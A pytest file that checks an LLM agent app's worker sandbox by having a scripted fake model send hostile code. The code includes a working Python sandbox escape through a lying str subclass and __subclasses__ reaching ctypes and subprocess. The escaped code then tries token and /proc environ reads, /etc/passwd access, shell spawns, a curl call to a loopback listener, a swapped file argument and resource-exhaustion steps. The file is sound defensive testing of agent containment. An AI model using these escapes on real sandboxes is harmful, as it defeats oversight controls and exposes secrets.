"""Escape corpus: agent code that gets past the Python-level screen gains nothing, through the real app.

The app runs as `python app.py` with `HF_TOKEN` set in its environment and an
OpenAI-compatible LLM: a scripted server on loopback (the one fake here: no real
model writes attacks on cue). Each attack first escapes the in-process screen
for real (a `str` subclass whose `startswith` lies gets dunder names past
`getattr`; `iter(f, None)` calls a function from C; `object.__subclasses__()`
reaches ctypes and subprocess), then tries to do harm. The kernel boundary of
the worker process must stop every try: the attack's own report says so, and
the test checks from outside (sentinel files, a loopback listener, a scan of
every log, prompt, answer and file for the token) and that the app answers
`/status` while a hostile step runs.
"""

from __future__ import annotations

import json
import os
import socket
import threading
import time
import uuid
from pathlib import Path

import pytest
from gradio_client import Client

from tests.conftest import running_app
from tests.stubs.openai_server import ScriptedChatServer

pytestmark = pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="needs Linux")

TOKEN = "hf_escapeCanary" + uuid.uuid4().hex
SENTINEL_DIR = Path("/tmp") / f"diorama-escape-{uuid.uuid4().hex[:8]}"

# Gets past the screen: dunder names through a lying str subclass, dunder calls through iter(f, None).
ESCAPE = r'''
class S(str):
    def startswith(self, *a):
        return False
u = '_' + '_'
top = getattr(getattr((), S(u + 'class' + u)), S(u + 'base' + u))
subs = next(iter(getattr(top, S(u + 'subclasses' + u)), None))
def find(text):
    found = [c for c in subs if text in str(c)]
    return found[0] if found else None
CDLL = find("'ctypes.CDLL'")
Popen = find("'subprocess.Popen'")
libc = CDLL(None)
gained = {'escaped': CDLL is not None and Popen is not None}
def attempt(name, f):
    try:
        gained[name] = next(iter(f, None))
    except BaseException as e:
        gained[name] = 'refused: ' + str(e)[:60]
'''

ATTACKS = {
    "environment": ESCAPE + r'''
attempt('getenv', lambda: libc.getenv(b'HF_TOKEN') != 0)
attempt('own_environ', lambda: libc.open(b'/proc/self/environ', 0))
attempt('parent_environ', lambda: libc.open(b'/proc/' + str(libc.getppid()).encode() + b'/environ', 0))
attempt('token_file', lambda: libc.open(b'/root/.cache/huggingface/token', 0))
final_answer(gained)
''',
    "files": ESCAPE + r'''
attempt('read_passwd', lambda: libc.open(b'/etc/passwd', 0))
attempt('read_config', lambda: libc.open(CONFIG, 0))
attempt('write_tmp', lambda: libc.open(SENTINEL + b'/written', 65, 420))
attempt('mkdir', lambda: libc.mkdir(SENTINEL + b'/made', 448))
final_answer(gained)
''',
    "processes": ESCAPE + r'''
attempt('popen', lambda: Popen(['/bin/sh', '-c', 'touch ' + SENTINEL.decode() + '/popen']))
attempt('system', lambda: libc.system(b'touch ' + SENTINEL + b'/system'))
attempt('fork', lambda: libc.fork())
attempt('kill_parent', lambda: libc.kill(libc.getppid(), 0))
attempt('raise_limit', lambda: libc.setrlimit(9, 0))
final_answer(gained)
''',
    "network": ESCAPE + r'''
attempt('tcp_socket', lambda: libc.socket(2, 1, 0))
attempt('unix_socket', lambda: libc.socket(1, 1, 0))
attempt('curl', lambda: Popen(['curl', 'http://127.0.0.1:' + PORT + '/']))
final_answer(gained)
''',
    "swapped_file_argument": ESCAPE + r'''
made = text_to_3d(prompt='red lighthouse')
made = made['glb'] if isinstance(made, dict) else made
class Flip(str):
    calls = 0
    def __str__(self):
        Flip.calls = Flip.calls + 1
        return made if Flip.calls == 1 else '/etc/passwd'
scene = assemble_scene(files=[Flip(made)], labels='lighthouse', title='x')
final_answer(scene)
''',
    "regex_backtracking": "import re\nx = re.match('(a+)+$', 'a' * 60 + 'b')\nfinal_answer('done')\n",
    "module_walk_factorial": "import statistics\nx = statistics.math.factorial(10**7)\nfinal_answer('done')\n",
    "c_level_loop": "x = sum(iter(int, 1))\nfinal_answer('done')\n",
    "computed_allocation": "n = int(''.join(['3', '0' * 9]))\nx = 'x' * n\nfinal_answer(len(x))\n",
    "native_crash": ESCAPE + "\nfind(\"'ctypes.CDLL'\")(None).abort()\nfinal_answer('done')\n",
}
# What ends the run, for attacks that cannot finish (the message the user reads).
FATAL = {"regex_backtracking": "computed for more than", "module_walk_factorial": "computed for more than",
         "c_level_loop": "computed for more than", "computed_allocation": "MiB and was stopped",
         "native_crash": "ended unexpectedly"}


def _task(body: dict) -> str:
    return "\n".join(m["content"] for m in body["messages"] if isinstance(m.get("content"), str))


class _Listener:
    """A loopback TCP port that counts connections (nothing may ever connect)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.port = self.sock.getsockname()[1]
        self.accepted = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.accepted += 1
            conn.close()


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory):
    SENTINEL_DIR.mkdir(exist_ok=True)
    listener = _Listener()
    config = Path(__file__).resolve().parent.parent / "diorama.toml"
    constants = (f"SENTINEL = {str(SENTINEL_DIR).encode()!r}\nCONFIG = {str(config).encode()!r}\n"
                 f"PORT = {str(listener.port)!r}\n")

    def choose(body: dict) -> str | None:
        text = _task(body)
        if "got stuck" in text:
            return "I could not finish."
        for name, code in ATTACKS.items():
            if f"[{name}]" in text:
                return f"Thought: run it.\n<code>\n{constants}{code}</code>"
        return None

    server = ScriptedChatServer(["Thought: nothing to do.\n<code>\nfinal_answer('no attack')\n</code>"],
                                choose=choose)
    data = tmp_path_factory.mktemp("escape-data")
    env = {"HF_TOKEN": TOKEN, "DIORAMA_MODEL_PROVIDER": "openai", "DIORAMA_LLM_BASE_URL": server.base_url,
           "DIORAMA_MODEL_ID": "scripted-attacker", "DIORAMA_MAX_STEPS": "1", "DIORAMA_CACHE": "false",
           "DIORAMA_SANDBOX_STEP_TIMEOUT_S": "6", "DIORAMA_SANDBOX_CPU_S": "60", "DIORAMA_SANDBOX_MEMORY_MB": "768",
           "DIORAMA_LLM_FALLBACK": "false"}  # pure LLM runs: each run ends as the hostile step left it
    try:
        with running_app(data, env=env) as (url, process):
            yield {"url": url, "data": data, "server": server, "listener": listener, "process": process}
    finally:
        server.close()
        listener.sock.close()


def _build(app: dict, attack: str, tmp_path: Path) -> dict:
    client = Client(app["url"], verbose=False, download_files=str(tmp_path))
    _, log = client.predict(f"[{attack}] a red lighthouse", api_name="/build")
    return log


def _everything_written(app: dict) -> str:
    """Every log, prompt and file the app and its LLM saw, as one text (binary files included, as latin-1)."""
    parts = [json.dumps(app["server"].requests)]
    for path in app["data"].rglob("*"):
        if path.is_file() and path.stat().st_size < 50_000_000:
            parts.append(path.read_bytes().decode("latin-1"))
    return "\n".join(parts)


@pytest.mark.parametrize("attack", ["environment", "files", "processes", "network"])
def test_an_escaped_step_gains_nothing(hostile_app, attack, tmp_path):
    log = _build(hostile_app, attack, tmp_path)

    sandbox = next(e for e in log["events"] if e["type"] == "sandbox")
    assert sandbox["layers"][:2] == ["process", "rlimits"], sandbox
    step = next(e for e in log["events"] if e["type"] == "agent_step" and e.get("status") != "running")
    assert step["status"] == "ok", step
    gained = json.loads(log["result"]["answer"])  # the attack's own report (a dict answer is kept as JSON)
    assert gained.pop("escaped") is True  # the screen was really bypassed: this is the kernel's test
    for name, value in gained.items():  # -1 / None / False / a refusal: nothing worked
        assert value in (-1, None, False) or str(value).startswith("refused") or (name == "system" and value != 0), \
            (name, value)
    assert not any(SENTINEL_DIR.iterdir()), list(SENTINEL_DIR.iterdir())
    assert hostile_app["listener"].accepted == 0
    written = _everything_written(hostile_app)
    for secret in (TOKEN, TOKEN[::-1], TOKEN[3:20]):
        assert secret not in written


def test_a_file_argument_swapped_after_the_check_cannot_upload_a_host_file(hostile_app, tmp_path):
    log = _build(hostile_app, "swapped_file_argument", tmp_path)

    calls = [e for e in log["events"] if e["type"] == "space_call" and e["tool"] == "assemble_scene"]
    assert calls, [e for e in log["events"] if e["type"] == "agent_step"]
    assert all("passwd" not in json.dumps(c["inputs"]) for c in calls)
    assert log["result"]["scene"] is not None  # the run file (the value the broker checked) was used
    assert "root:x:0:0" not in _everything_written(hostile_app)


@pytest.mark.parametrize("attack", sorted(FATAL))
def test_a_hostile_step_costs_its_worker_and_the_app_keeps_answering(hostile_app, attack, tmp_path):
    client = Client(hostile_app["url"], verbose=False, download_files=str(tmp_path))
    started = client.predict(f"[{attack}] a red lighthouse", api_name="/start")
    answered = 0
    while True:  # /status answers throughout the hostile step (no timing asserted: it just has to answer)
        _, report = client.predict(started["run_id"], api_name="/status")
        answered += 1
        if report["status"] != "running":
            break
        time.sleep(0.5)
    if FATAL[attack] == "computed for more than":  # a step that runs for seconds: /status answered meanwhile
        assert answered >= 2, "no /status answer came while the hostile step ran"
    assert report["status"] == "failed", report
    assert FATAL[attack] in report["error"], report["error"]
    assert "Files made so far are kept" in report["error"]
    assert hostile_app["process"].poll() is None  # the app is alive
    # and the next run gets a fresh worker
    log = _build(hostile_app, "environment", tmp_path)
    assert json.loads(log["result"]["answer"])["escaped"] is True, log["result"]["answer"]


def test_cancel_stops_a_step_stuck_in_c_at_once(hostile_app, tmp_path):
    client = Client(hostile_app["url"], verbose=False, download_files=str(tmp_path))
    started = client.predict("[c_level_loop] a red lighthouse", api_name="/start")
    while not any(e.get("type") == "sandbox" for e in
                  client.predict(started["run_id"], api_name="/status")[1].get("log", {}).get("events", [])):
        time.sleep(0.2)
    report = client.predict(started["run_id"], api_name="/cancel")
    while report["status"] == "running":
        time.sleep(0.2)
        _, report = client.predict(started["run_id"], api_name="/status")
    assert report["status"] == "cancelled", report
    assert "computed for more than" not in (report["error"] or "")  # stopped by the cancel, not the step limit


def test_workers_hold_no_secret_in_their_environment(hostile_app):
    workers = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
            except OSError:
                continue
            if b"agent/worker.py" in cmdline:
                workers.append(pid)
    assert workers  # the app keeps a spare worker ready
    for pid in workers:
        environ = Path(f"/proc/{pid}/environ").read_bytes()
        assert TOKEN.encode() not in environ and b"HF_TOKEN" not in environ


def test_the_banner_names_the_sandbox_layers(hostile_app):
    import httpx

    config = httpx.get(hostile_app["url"] + "config", timeout=30).text
    assert "**Sandbox:** process + rlimits" in config


def test_the_worker_probed_for_the_banner_serves_the_next_run(tmp_path):
    """The banner's probe keeps its worker as the spare; the first run must get it ready, not wait for it."""
    from agent.broker import WorkerExecutor, WorkerPool
    from agent.confine import WorkerLimits

    pool = WorkerPool(WorkerLimits())
    try:
        layers = pool.probe()
        executor = WorkerExecutor(pool, tmp_path)
        assert executor.layers == layers and layers[:2] == ["process", "rlimits"]
        executor.send_tools({})
        assert executor("6 * 7").output == 42
        executor.cleanup()
    finally:
        pool.close()
